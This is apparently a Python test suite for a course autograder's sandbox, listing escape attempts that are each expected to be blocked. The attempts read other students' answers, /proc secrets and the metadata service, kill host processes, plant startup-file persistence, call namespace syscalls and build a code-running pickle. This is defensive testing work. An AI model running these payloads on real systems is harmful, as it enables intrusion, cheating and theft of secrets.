"""Attacks that reach out of the sandbox: files, other processes, the network, sockets of the host."""

from __future__ import annotations

from attack import FULL_SANDBOX, RIGHT, Attack, beside_right

# an answer that is right only where the attack found what it looked for
USING = {name: f"def {name}(*args):\n    return found['{name}'](*args) if '{name}' in found else 0" for name in RIGHT}


def stealing(name: str, tries: str, right: str, cell: str, boundary: str = "files", **more) -> Attack:
    """An attack that fills `found` with right answers, if it can."""
    return Attack(name, boundary, tries, right, "found = {}\n" + cell, answers=USING, **more)


def reaching(name: str, boundary: str, tries: str, right: str, cell: str, **more) -> Attack:
    """An attack on the host beside right answers; what it reaches, the referee sees."""
    return beside_right(name, boundary, tries, right, cell=cell, **more)


RUN_FILE = """
def take(text):
    space = {"np": np}
    for part in text.split("\\n\\n"):
        try:
            exec(part, space)
        except Exception:
            pass
    for name in ("double", "total", "box_area"):
        if callable(space.get(name)):
            found[name] = space[name]
"""
NEW_PROCESS = """import os, sys, time


def spawn(seconds):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(seconds)
        os._exit(0)
"""

REACH = [
    stealing(
        "a08_solutions",
        "to read solutions, hidden checks and the exercises of the course",
        "0: they are not there",
        RUN_FILE
        + """
import glob, os, sys
roots = ["@COURSE@", os.path.dirname("@COURSE@"), *sys.path, "/work", "/scratch/..", "/stage", os.path.dirname(sys.prefix)]
for root in roots:
    for path in glob.glob(root + "/exercises/lab00_tiny/*.py") + glob.glob(root + "/segedu/teaching/exercises/lab*/*.py")[:40]:
        try:
            space = {}
            exec(open(path).read(), space)
            for exercise in space.get("exercises", ()):
                found[exercise.name] = exercise.reference
        except Exception:
            pass
    for path in glob.glob(root + "/solutions/*.py") + glob.glob(root + "/segedu/ops/boxes.py"):
        try:
            take(open(path).read())
        except OSError:
            pass""",
        twin="import os, sys\nprint(len(os.listdir('.')), sys.version_info[:2])",
    ),
    reaching(
        "a10_outlives",
        "processes",
        "to go on after grading, in a session of its own",
        "it ends with the kernel",
        NEW_PROCESS + "spawn(60)\nspawn(60)",
        twin=NEW_PROCESS + "spawn(0)",
    ),
    reaching(
        "a17_localhost",
        "network",
        "to connect to the host's own ports",
        "unreachable",
        """import socket
for host in ("127.0.0.1", "::1", "0.0.0.0", "localhost"):
    try:
        socket.create_connection((host, int("@PORT@")), timeout=1).send(b"segedu")
    except OSError as error:
        print(host, error)
try:
    mail = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    mail.sendto(b"segedu", ("127.0.0.1", int("@PORT@")))
except OSError as error:
    print(error)""",
        twin="""import socket
a, b = socket.socketpair()
a.send(b"x")
print(b.recv(1))""",
    ),
    stealing(
        "a18_neighbour",
        "to take the answers of another student from the disk",
        "0: they are not there",
        RUN_FILE
        + """
import glob, json
for path in glob.glob("@SUBMISSIONS@/*.ipynb") + glob.glob("/tmp/segedu-*/**/*.ipynb", recursive=True):
    try:
        for cell in json.load(open(path))["cells"]:
            take(cell["source"] if isinstance(cell["source"], str) else "".join(cell["source"]))
    except (OSError, ValueError):
        pass""",
        twin="import json\njson.dump({'cells': []}, open('mine.ipynb', 'w'))",
    ),
    reaching(
        "a19_site_packages",
        "files",
        "to write into the packages that everybody imports",
        "read-only",
        """import numpy, os, pathlib, sysconfig
for folder in (sysconfig.get_paths()["purelib"], os.path.dirname(numpy.__file__), "/stage", "/usr/lib", "/etc"):
    try:
        os.chmod(folder, 0o777)
    except OSError:
        pass
    try:
        pathlib.Path(folder, "segedu_attack_mark.py").write_text("pass")
        print("written", folder)
    except OSError as error:
        print(error)""",
        twin="import sys, pathlib\npathlib.Path('mine.py').write_text('x = 4')\nimport mine\nprint(mine.x)",
    ),
    reaching(
        "n35_shell",
        "network",
        "to install packages and to fetch files by shell and magic",
        "a note; no network, nothing written",
        "%load_ext autoreload\n!pip install --quiet --disable-pip-version-check --retries 0 --timeout 1 no-such-package-here\n"
        "!curl -s -m 2 http://127.0.0.1:@PORT@/ ; touch @BAIT@/by_shell",
        note="runs a shell command",
        levels=FULL_SANDBOX,
        twin="!ls\n%time np.zeros(3)",
        twin_levels=FULL_SANDBOX,
    ),
    reaching(
        "n39_kills_the_host",
        "processes",
        "to kill its parents, the grader and a process of the host",
        "not permitted",
        """import os, signal
victims = [int("@PID@")]
if os.getppid() < 20:  # numbers of the sandbox's own; elsewhere its parent is left alone
    victims += [os.getppid(), 1]
for pid in victims:
    for number in (signal.SIGTERM, signal.SIGKILL):
        try:
            os.kill(pid, number)
            print("sent", pid)
        except OSError as error:
            print(pid, error)
try:
    signal.pidfd_send_signal(os.pidfd_open(int("@PID@")), signal.SIGKILL)
except OSError as error:
    print(error)""",
        twin="import os\nprint(os.getppid() > 0, os.kill(os.getpid(), 0))",
    ),
    reaching(
        "n40_environment",
        "files",
        "to read the environment, memory and files of the grader through /proc",
        "denied; nothing of it in the reports",
        """import glob, os
told = []
for pid in ["@GRADER@", "@PID@", "1", str(os.getppid())]:
    for name in ("environ", "maps", "root/@BAIT@/secret.txt", "cwd/secret.txt", "mem"):
        try:
            with open(f"/proc/{pid}/{name}", "rb") as file:
                told.append(f"{pid} {name} {file.read(1 << 14)!r}")
        except OSError:
            pass
    for path in glob.glob(f"/proc/{pid}/fd/*"):
        try:
            told.append(os.readlink(path))
        except OSError:
            pass
try:
    told.append(open("@BAIT@/secret.txt").read())
except OSError:
    pass
secret = [text for text in told if "token-" in text]
if secret:
    open("@BAIT@/read", "w").write("the secret was read")
raise type(f"Found_{len(told)}_{' '.join(secret)[:60]}", (Exception,), {})""",
        twin="import os, platform\nprint(os.cpu_count(), platform.machine(), os.environ['HOME'])",
    ),
    reaching(
        "n42_metadata",
        "network",
        "to ask the cloud's metadata service and to leak by DNS",
        "no network",
        """import socket
for host in ("169.254.169.254", "192.0.2.1"):
    try:
        socket.create_connection((host, 80), timeout=1)
        open("@BAIT@/metadata", "w").write(host)
    except OSError as error:
        print(error)
try:
    socket.gethostbyname("answers.example.invalid")
except OSError as error:
    print(error)""",
        twin="import urllib.parse\nprint(urllib.parse.urlparse('http://example.org/a').path)",
    ),
    reaching(
        "n43_other_kernels",
        "network",
        "to talk to other kernels and to services through sockets that are files",
        "none can be reached",
        """import glob, socket
for place in ("@SOCKET@", "\\0@NAME@", *glob.glob("/tmp/segedu-run-*/run/k-*"), "/run/docker.sock", "/run/dbus/system_bus_socket"):
    line = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        line.connect(place)
        line.send(b"segedu")
        print("reached", place)
    except OSError as error:
        print(place, error)
    line.close()
mail = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
for place in ("@MAILBOX@", "/dev/log"):
    try:
        mail.sendto(b"segedu", place)
        print("sent", place)
    except OSError as error:
        print(place, error)""",
        twin="import multiprocessing\na, b = multiprocessing.Pipe()\na.send(3)\nprint(b.recv())",
    ),
    reaching(
        "o36_writes_on_the_host",
        "files",
        "to change, link, rename and remove files of the host by every road",
        "0 of them works",
        """import os, pathlib, shutil
bait = pathlib.Path("@BAIT@")
roads = [bait, pathlib.Path("/proc/self/root") / "@BAIT@"[1:], pathlib.Path("/proc/self/cwd/../../..") / "@BAIT@"[1:]]
for number in range(3, 64):
    roads.append(pathlib.Path(f"/proc/self/fd/{number}/../../../../..") / "@BAIT@"[1:])
for road in roads:
    for act in (lambda: (road / "new").write_text("x"), lambda: os.remove(road / "secret.txt"),
                lambda: os.rename(road / "secret.txt", road / "moved"), lambda: os.link(road / "secret.txt", "mine"),
                lambda: os.chmod(road / "secret.txt", 0), lambda: os.truncate(road / "gradebook.sqlite", 0),
                lambda: os.symlink("/etc", road / "link"), lambda: shutil.rmtree(road / "records"),
                lambda: os.utime(road / "secret.txt", (0, 0)), lambda: os.setxattr(road / "secret.txt", "user.x", b"x")):
        try:
            act()
            print("done")
        except OSError:
            pass""",
        twin="import os\nopen('a', 'w').close()\nos.link('a', 'b')\nos.rename('b', 'c')\nos.remove('a')",
    ),
    reaching(
        "o37_namespaces_and_mounts",
        "sandbox",
        "to mount, to unshare, to change the root, to trace and to load",
        "EPERM for each",
        """import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
calls = {"unshare": (272, 0x10000000), "mount": (165, b"none", b"/", 0, 16384 | 4096, 0), "chroot": (161, b"."),
         "ptrace": (101, 16, 1, 0, 0), "setns": (308, 0, 0), "pivot_root": (155, b".", b"."), "bpf": (321, 0, 0, 0),
         "open_tree": (428, -100, b"/", 1), "io_uring": (425, 4, 0), "keyctl": (250, 0, 0), "clone_ns": (56, 0x10000011, 0, 0, 0, 0),
         "process_vm_readv": (310, 1, 0, 0, 0, 0, 0), "open_by_handle": (304, -100, 0, 0), "x32": (0x40000000 + 165, 0, 0, 0)}
import platform
for name, (number, *rest) in calls.items() if platform.machine() == "x86_64" else ():
    pid = os.fork()
    if pid == 0:
        result = libc.syscall(number, *rest)
        os._exit(0 if result < 0 else 7)
    if os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == 7:
        raise RuntimeError(f"{name} was permitted")
for device in (("b", 8, 0), ("c", 1, 1)):
    try:
        os.mknod("device", 0o600 | (0o60000 if device[0] == "b" else 0o20000), os.makedev(*device[1:]))
        raise RuntimeError("a device was made")
    except OSError as error:
        print(error)""",
        twin="import platform, os\nprint(platform.uname().system, os.getuid() >= 0)",
    ),
    reaching(
        "o38_descriptors",
        "sandbox",
        "to find a folder of the host among inherited descriptors",
        "there is none",
        """import os, stat
for number in range(0, 1024):
    try:
        found = os.fstat(number)
    except OSError:
        continue
    where = os.readlink(f"/proc/self/fd/{number}")
    if stat.S_ISDIR(found.st_mode):
        try:
            os.close(os.open("@BAIT@/through_descriptor", os.O_CREAT | os.O_WRONLY, dir_fd=number))
        except OSError:
            pass
        raise RuntimeError(f"a folder is open: {where}")""",
        twin="import os\nfd = os.open('.', os.O_RDONLY)\nprint(os.fstat(fd).st_mode)\nos.close(fd)",
    ),
    reaching(
        "o39_next_kernel",
        "provisioner",
        "to leave a startup file and a module for the next kernel, and to die",
        "each kernel has a home of its own",
        """import os, pathlib
home = pathlib.Path(os.environ["HOME"])
evil = "import builtins\\nbuiltins.np = None\\nimport os\\nos._exit(1)"
for path in (home / ".ipython/profile_default/startup/evil.py", home / ".local/lib/python3.11/site-packages/usercustomize.py",
             pathlib.Path("numpy.py"), pathlib.Path("sitecustomize.py"), pathlib.Path("segedu/__init__.py")):
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(evil)
os._exit(1)""",
        twin="import pathlib, os\npathlib.Path(os.environ['HOME'], 'notes.txt').write_text('x')",
    ),
    beside_right(
        "n62_pickled_weights",
        "files",
        "to hand in weights whose pickle runs code when they are loaded",
        "it runs in the sandbox alone, and torch refuses it",
        cell="""import io, os, torch


class Evil:
    def __reduce__(self):
        return (os.system, ("touch @BAIT@/by_pickle",))


torch.save({"w": Evil()}, "weights.pt")
for safe in (True, False):
    try:
        torch.load("weights.pt", weights_only=safe)
    except Exception as error:
        print(type(error).__name__)""",
        twin="import torch\ntorch.save({'w': torch.ones(2)}, 'w.pt')\nprint(torch.load('w.pt', weights_only=True))",
    ),
    beside_right(
        "n65_gpu",
        "limits",
        "to take the accelerator",
        "there is none in the sandbox: its devices are not there",
        cell="""import os, torch
os.environ["CUDA_VISIBLE_DEVICES"] = "0"
if torch.cuda.is_available() or any(name.startswith("nvidia") for name in os.listdir("/dev")):
    raise RuntimeError("an accelerator is here")""",
        levels=FULL_SANDBOX,
        twin="import torch\nx = torch.ones(2, device='cuda' if torch.cuda.is_available() else 'cpu')\nprint(x.sum())",
    ),
]
